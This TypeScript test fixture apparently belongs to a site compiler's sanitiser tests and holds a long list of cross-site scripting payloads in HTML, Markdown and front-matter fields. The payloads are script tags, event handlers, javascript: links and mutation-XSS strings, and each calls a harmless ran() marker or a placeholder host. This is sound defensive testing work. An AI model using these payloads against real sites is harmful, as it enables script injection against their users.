// Attempts: HTML that has run a script, or made a forbidden request, in programs that expected only text.
// Each calls ran(), or requests something from `{elsewhere}`, another site.

export interface Attempt {
  readonly name: string;
  readonly html: string;
  /**
   * `here`: it runs in Chromium when nothing stops it, so a test can check that. `elsewhere`: it needs another browser
   * or an older one.
   */
  readonly runs: 'here' | 'elsewhere';
  /** True when the compiler rejects a post with it: it never ends, or has the address of a missing file. */
  readonly refused?: true;
}

const BROKEN = 'src="/no-such.png"';
const SCRIPT = '<script>ran()</script>';
const SCRIPT_AS_TEXT = '&lt;script&gt;ran()&lt;/script&gt;';

function here(name: string, html: string): Attempt {
  return { name, html, runs: 'here' };
}

function elsewhere(name: string, html: string): Attempt {
  return { name, html, runs: 'elsewhere' };
}

export const ATTEMPTS: readonly Attempt[] = [
  here('a script', SCRIPT),
  here('a script of another site', '<script src="{elsewhere}/x.js"></script>'),
  here('a module', '<script type="module">ran()</script>'),
  here('a module of another site', '<script type=module src="{elsewhere}/x.js"></script>'),
  here('a script in capitals', '<SCRIPT\n>ran()</SCRIPT\n>'),
  here('a script with a slash', '<script/x>ran()</script>'),
  here('a script in a data: address', '<script src="data:text/javascript,ran()"></script>'),
  { ...here('a script of another site that never ends', '<script src={elsewhere}/x.js>'), refused: true },
  here('a script in SVG', '<svg><script>ran()</script></svg>'),
  {
    ...here('a script in SVG, empty', '<svg><script href="data:text/javascript,ran()" /></svg>'),
    refused: true,
  },
  elsewhere('a script within a script', '<scr<script></script>ipt>ran()</scr<script></script>ipt>'),
  here('a preloaded module', '<link rel=modulepreload href="{elsewhere}/x.js">'),

  here('a handler', `<img ${BROKEN} onerror="ran()">`),
  here('a handler in odd case', '<IMG SRC=/no-such.png OnErRoR=ran()>'),
  here('a handler between slashes', '<img/src="/no-such.png"/onerror=ran()>'),
  here('a handler on lines of its own', `<img ${BROKEN}\nonerror\n=\nran()>`),
  here('a handler after a form feed', `<img ${BROKEN}\fonerror=ran()>`),
  here('a handler in references', `<img ${BROKEN} onerror="&#114;&#x61;n&lpar;&rpar;">`),
  here('a handler after a quote too many', `<img """ ${BROKEN} onerror=ran()>`),
  here('a handler in backquotes', `<img ${BROKEN} alt=\`x\`onerror=y onerror=ran()>`),
  here('a handler of a tag that never ends', `<img ${BROKEN} onerror=ran() x=`),
  here('a handler after a script in quotes', `<img title="${SCRIPT}" ${BROKEN} onerror=ran()>`),
  here('a handler of SVG', '<svg onload=ran()></svg>'),
  here('a handler of an animation', '<svg><animate onbegin=ran() attributeName=x dur=1s></svg>'),
  here('a handler of the body', '<body onload=ran()>'),
  here('a handler of a frame', '<iframe src="/no-such-page" onload=ran()></iframe>'),
  here('a handler of details', '<details open ontoggle=ran()><summary>x</summary></details>'),
  here('a handler of sound', '<audio src="/no-such.wav" onerror=ran()></audio>'),
  here('a handler of a source', '<video><source src="/no-such.mp4" onerror=ran()></video>'),
  here('a handler of a field', '<input autofocus onfocus=ran()>'),
  here('a handler of a click', '<b onclick=ran()>click</b>'),
  here('a handler of a pointer', '<p onmouseover=ran()>point</p>'),
  here('a handler of an element that is none', '<x-y tabindex=1 onfocus=ran()>focus</x-y>'),
  elsewhere('a handler of a marquee', '<marquee onstart=ran()>x</marquee>'),
  here('a handler of a style sheet', '<style onload=ran()></style>'),
  here(
    'a handler of a transition',
    '<p onanimationstart=ran() style="animation:x 1s">x</p><style>@keyframes x{}</style>',
  ),

  here('a link', '<a href="javascript:ran()">click</a>'),
  here('a link in odd case', '<a href="JaVaScRiPt:ran()">click</a>'),
  { ...here('a link with a tab', '<a href="java&Tab;script&colon;ran()">click</a>'), refused: true },
  { ...here('a link with a line break', '<a href="java\nscript:ran()">click</a>'), refused: true },
  {
    ...here('a link after a control character', '<a href="&#1; javascript:ran()">click</a>'),
    refused: true,
  },
  here('a link in references', '<a href="&#106&#97&#118&#97script&#58;ran()">click</a>'),
  here('a link with a comment', '<a href="javascript://example.org/%0Aran()">click</a>'),
  here('a link to a new window', '<a href="javascript:ran()" target=_self rel=opener>click</a>'),
  here('a link of SVG', '<svg><a xlink:href="javascript:ran()"><text y=9>click</text></a></svg>'),
  here(
    'a link that is animated',
    '<svg><a><animate attributeName=href values="javascript:ran()" begin=0s dur=9s fill=freeze /><text y=9>click</text></a></svg>',
  ),
  elsewhere('a link of MathML', '<math><mtext href="javascript:ran()">click</mtext></math>'),
  here(
    'a link of a map',
    '<map name=m><area href="javascript:ran()" shape=default></map><img usemap=#m src=/favicon.svg>',
  ),
  elsewhere('a link in vbscript:', '<a href="vbscript:ran()">click</a>'),
  here('a link in data:', `<a href="data:text/html,${SCRIPT_AS_TEXT}">click</a>`),
  elsewhere(
    'a link below a base that is a script',
    '<base href="javascript:/a/-ran()///"><a href="/x">click</a>',
  ),

  here('a form', '<form action="javascript:ran()"><button>click</button></form>'),
  here('a button of a form', '<form><button formaction="javascript:ran()">click</button></form>'),
  here('a form of another site', '<form action="{elsewhere}/form"><input type=submit value=click></form>'),

  here('a frame of HTML', `<iframe srcdoc="${SCRIPT_AS_TEXT}"></iframe>`),
  here('a frame of a script', '<iframe src="javascript:parent.ran()"></iframe>'),
  here('a frame of data', `<iframe src="data:text/html,${SCRIPT_AS_TEXT}"></iframe>`),
  here('an object', '<object data="{elsewhere}/frame"></object>'),
  here('an object of data', `<object data="data:text/html,${SCRIPT_AS_TEXT}"></object>`),
  here('an embed', '<embed src="{elsewhere}/frame">'),
  elsewhere('an embed of a script', '<embed src="javascript:ran()">'),
  elsewhere('a set of frames', '<frameset onload=ran()><frame src="javascript:ran()"></frameset>'),

  here('a style sheet', '<link rel=stylesheet href="{elsewhere}/x.css">'),
  here('a style sheet that is imported', '<style>@import "{elsewhere}/x.css";</style>'),
  here('a style', '<style>main { background: url({elsewhere}/x.svg) }</style>'),
  here('a style of an element', '<p style="background: url({elsewhere}/x.svg)">x</p>'),
  here(
    'a font',
    '<style>@font-face { font-family: x; src: url({elsewhere}/x) } main { font-family: x }</style>',
  ),
  elsewhere('an expression in a style', '<p style="width: expression(ran())">x</p>'),

  here('a picture of SVG', '<svg><image href="/no-such.png" onerror=ran() /></svg>'),
  here('HTML in SVG', `<svg><foreignObject><img ${BROKEN} onerror=ran()></foreignObject></svg>`),
  here('HTML in a style in SVG', `<svg><style><img ${BROKEN} onerror=ran()></style></svg>`),
  here('HTML in MathML', `<math><mtext><img ${BROKEN} onerror=ran()></mtext></math>`),
  here(
    'HTML in a style in MathML',
    `<math><mtext></mtext><style><img ${BROKEN} onerror=ran()></style></math>`,
  ),
  elsewhere('HTML in CDATA of SVG', `<svg><![CDATA[><img ${BROKEN} onerror=ran()>]]></svg>`),
  here(
    'HTML after text that ends early',
    `<textarea><p title="</textarea><img ${BROKEN} onerror=ran()>"></textarea>`,
  ),
  here(
    'HTML after a title that ends early',
    `<title><p title="</title><img ${BROKEN} onerror=ran()>"></title>`,
  ),
  here('HTML after xmp that ends early', `<xmp><p title="</xmp><img ${BROKEN} onerror=ran()>"></xmp>`),
  here(
    'HTML after a style that ends early',
    `<style><p title="</style><img ${BROKEN} onerror=ran()>"></style>`,
  ),
  here('HTML after a comment that ends early', `<!--><img ${BROKEN} onerror=ran()>-->`),
  here('HTML after a comment that ends oddly', `<!-- --!><img ${BROKEN} onerror=ran()>-->`),
  here('HTML after an instruction', `<?x ><img ${BROKEN} onerror=ran()> ?>`),
  here(
    'HTML in a selection',
    `<select><option><img ${BROKEN} onerror=ran()></select><img ${BROKEN} onerror=ran()>`,
  ),
  elsewhere(
    'HTML where no script runs',
    `<noscript><p title="</noscript><img ${BROKEN} onerror=ran()>"></noscript>`,
  ),
  here(
    'a template with a shadow',
    `<p><template shadowrootmode=open></template></p><div><template shadowrootmode=open><img ${BROKEN} onerror=ran()></template></div>`,
  ),
  elsewhere(
    'a style that mutates',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img ${BROKEN.replaceAll('"', '')} onerror=ran()&gt;">`,
  ),
  elsewhere(
    'a form that mutates',
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=ran() src>">`,
  ),
  elsewhere(
    'an attribute that mutates',
    `<svg></p><style><g title="</style><img ${BROKEN.replaceAll('"', '')} onerror=ran()>">`,
  ),
];

/** Attempts in Markdown; none of them is HTML. */
export const MARKDOWN_ATTEMPTS: Readonly<Record<string, string>> = {
  'a link': '[click](javascript:ran())',
  'a link in odd case': '[click](<JaVaScRiPt:ran()>)',
  'a link in references': '[click](&#106;avascript&colon;ran())',
  'a link by reference': '[click][it]\n\n[it]: javascript:ran()',
  'a link to data': `[click](data:text/html,${SCRIPT_AS_TEXT})`,
  'an address': '<javascript:ran()>',
  'a link with a title': `[click](/ "\\" onclick=\\"ran()")`,
  'a link with quotes': `[click](/?"onclick="ran())`,
  'a picture': '![x](javascript:ran())',
  'words in place of a picture': `!["onerror="ran()](/no-such.png)\n\n![<img ${BROKEN} onerror=ran()>](/favicon.svg)`,
  'a picture with a title': `![x](/no-such.png '" onerror="ran()')`,
  'a heading': `## <img ${BROKEN} onerror=ran()> "onclick="ran()`,
  'a language of code': '```x"onclick="ran()"><script>ran()</script>\nx\n```',
  code: '```html\n</code></pre><script>ran()</script>\n```\n\n`<script>ran()</script>`',
  'a footnote': `x[^"onclick="ran()][^2]\n\n[^"onclick="ran()]: x\n[^2]: <img ${BROKEN} onerror=ran()>`,
  'a table': `| <img ${BROKEN} onerror=ran()> |\n| --- |\n| <script>ran()</script> |`,
  'an escape that does not escape': `\\<img ${BROKEN} onerror=ran()>\n\n&lt;script>ran()&lt;/script>`,
  'HTML in halves': `<img ${BROKEN} alt="**x**\n\nonerror=ran() ">`,
};

/** Attempts in fields of the front matter, in which no markup has any meaning. */
export const FIELD_ATTEMPTS: readonly string[] = [
  SCRIPT,
  `</title></style></script>${SCRIPT}`,
  `<img ${BROKEN} onerror=ran()>`,
  `" onmouseover="ran()" onfocus="ran()" onerror="ran()" x="`,
  `' onmouseover='ran()' x='`,
  `">${SCRIPT}`,
  `-->${SCRIPT}<!--`,
];
